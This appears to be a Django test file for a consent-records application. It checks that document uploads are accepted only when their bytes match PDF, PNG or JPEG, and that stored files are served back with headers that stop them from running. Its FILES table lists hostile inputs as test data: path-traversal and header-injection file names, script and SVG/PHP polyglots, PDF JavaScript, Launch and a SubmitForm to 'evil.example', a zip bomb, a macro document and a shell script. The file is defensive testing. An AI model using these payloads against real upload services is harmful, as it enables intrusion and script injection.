"""What is uploaded is what its bytes say, or refused; what is handed out again is a file that may do nothing (S-13)."""

import io
import zipfile

import pytest
import time_machine
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework import serializers

from continuity.api.consent_shapes import DocumentUpload
from continuity.backoffice.consent_forms import AttachForm
from continuity.consents.documents import LARGEST
from continuity.consents.models import SignedDocument
from continuity.disclosures.models import LedgerEntry
from tests import builders as b
from tests.api.states import proposed_consent
from tests.attacks.ground import Browser, text_of
from tests.attacks.told import Told
from tests.cast import Cast

pytestmark = pytest.mark.django_db
PDF, PNG, JPEG = b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0\x00\x10JFIF"
SCRIPT = b"<script>alert('x-attack')</script>"


def _zipped(size: int) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * size)
    return kept.getvalue()


# name as the browser sends it -> (bytes, the type that the site may keep it as; None where it must be refused)
FILES = {
    "form.pdf": (b.SCAN, "application/pdf"),
    "scan.png": (PNG + b"rest", "image/png"),
    "scan.jpg": (JPEG + b"rest", "image/jpeg"),
    "wrong-ending.exe": (b.SCAN, "application/pdf"),
    "form.pdf.html": (b.SCAN, "application/pdf"),
    "../../../../etc/passwd": (b.SCAN, "application/pdf"),
    "C:\\Windows\\form.pdf": (b.SCAN, "application/pdf"),
    "form.pdf\r\nX-Attack: yes": (b.SCAN, "application/pdf"),
    "<script>x-attack</script>.pdf": (b.SCAN, "application/pdf"),
    "‮fdp.exe": (b.SCAN, "application/pdf"),
    "pdf-and-html-far-down.pdf": (PDF + b" " * 4096 + SCRIPT, "application/pdf"),
    "jpeg-and-html-far-down.jpg": (JPEG + b" " * 4096 + SCRIPT, "image/jpeg"),
    "pdf-and-zip.pdf": (PDF + _zipped(100), "application/pdf"),
    "pdf-and-html.pdf": (PDF + b"<html>" + SCRIPT, None),
    "png-and-html.png": (PNG + SCRIPT, None),
    "jpeg-and-svg.jpg": (JPEG + b"<svg onload=alert(1)>", None),
    "jpeg-and-php.jpg": (JPEG + b"<?php system('x'); ?>", None),
    "pdf-with-javascript.pdf": (PDF + b"1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>", None),
    "pdf-with-hidden-javascript.pdf": (PDF + b"1 0 obj <</S /J#61vaScript /JS (app.alert(1))>>", None),
    "pdf-that-launches.pdf": (PDF + b"<</S /Launch /F (cmd.exe)>>", None),
    "pdf-with-a-file-in-it.pdf": (PDF + b"<</Type /EmbeddedFile>>", None),
    "pdf-that-sends-a-form.pdf": (PDF + b"<</S /SubmitForm /F (https://evil.example)>>", None),
    "html.pdf": (b"<!doctype html>" + SCRIPT, None),
    "gif-and-html.gif": (b"GIF89a/*" + SCRIPT + b"*/", None),
    "picture.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", None),
    "bomb.zip": (_zipped(10_000_000), None),
    "macro.docm": (b"PK\x03\x04" + b"word/vbaProject.bin", None),
    "program.pdf": (b"MZ\x90\x00", None),
    "script.pdf": (b"#!/bin/sh\nreboot", None),
    "blank-before.pdf": (b"\n%PDF-1.7", None),
    "byte-order-mark.pdf": (b"\xef\xbb\xbf%PDF-1.7", None),
    "empty.pdf": (b"", None),
    "large.pdf": (PDF.ljust(LARGEST + 1), None),
}


@pytest.fixture
def consent(cast: Cast):
    with time_machine.travel(b.NOW, tick=False):
        yield proposed_consent(cast)


def _all_below(kind: type) -> set[type]:
    return {one for direct in kind.__subclasses__() for one in {direct, *_all_below(direct)}}


def test_nothing_else_takes_a_file():
    """A new upload needs its line here, and its addresses in the drill below."""
    fields = {one for one in _all_below(forms.BaseForm) if _takes(one, "base_fields", forms.FileField)}
    shapes = {
        one
        for one in _all_below(serializers.Serializer)
        if _takes(one, "_declared_fields", serializers.FileField)
    }
    ours = {one for one in fields | shapes if one.__module__.startswith("continuity.")}
    assert ours == {AttachForm, DocumentUpload}


def _takes(form: type, names: str, kind: type) -> bool:
    return any(isinstance(one, kind) for one in getattr(form, names, {}).values())


@pytest.mark.parametrize("door", ["API", "page"])
def test_a_file_is_what_its_bytes_say_or_is_refused(cast: Cast, consent, door):
    told, browser = Told(f"uploads through the {door}"), Browser(cast.kim)
    path = (
        f"/api/v1/consents/{consent.pk}/documents/"
        if door == "API"
        else f"/admin/consents/{consent.pk}/documents/"
    )
    for name, (content, kind) in FILES.items():
        with b.undone():
            file = SimpleUploadedFile(name, content, content_type="text/html")
            file.name = name  # as it stands in the request: Django's own has dropped its folders
            answer = browser.post(path, {"kind": "signed_form", "file": file})
            kept = SignedDocument.objects.filter(consent=consent).first()
            wrong = _wrong(kept, kind, content)
            if (
                answer.status_code not in ((201, 302) if kind else (400,))
                or "x-attack" in text_of(answer).lower()
            ):
                wrong = wrong or f"answered {answer.status_code}"
            if kept is not None:
                wrong = wrong or _served(browser, consent, kept)
            told.note(
                f"{name[:40]!r}", f"{answer.status_code} {kept.media_type if kept else ''}", got_through=wrong
            )
    told.end(at_least=30)


def _wrong(kept: SignedDocument | None, kind: str | None, content: bytes) -> str:
    if (kept and kept.media_type) != kind:
        return f"kept as {kept and kept.media_type}, not as {kind}"
    return "changed" if kept and bytes(kept.content) != content else ""


def _served(browser: Browser, consent, kept: SignedDocument) -> str:
    """What is wrong with how it is handed out again, by either door."""
    for path in (
        f"/api/v1/consents/{consent.pk}/documents/{kept.pk}/",
        f"/admin/consents/{consent.pk}/documents/{kept.pk}/",
    ):
        before = LedgerEntry.objects.count()
        answer = browser.get(path)
        heads = answer.headers
        ending = {"application/pdf": "pdf", "image/png": "png", "image/jpeg": "jpg"}[kept.media_type]
        if answer.status_code != 200 or heads["Content-Type"] != kept.media_type:
            return f"{path} answered {answer.status_code} {heads['Content-Type']}"
        if heads["X-Content-Type-Options"] != "nosniff" or "no-store" not in heads["Cache-Control"]:
            return f"{path} may be guessed at or kept"
        if heads["Content-Security-Policy"] != "default-src 'none'; sandbox":
            return f"{path} may run"
        disposition = heads["Content-Disposition"]
        if not disposition.startswith("attachment; filename=") or f"{kept.pk}.{ending}" not in disposition:
            return f"{path} is {disposition}"
        if LedgerEntry.objects.count() != before + 1:
            return f"{path} left no row in the ledger"
    return ""
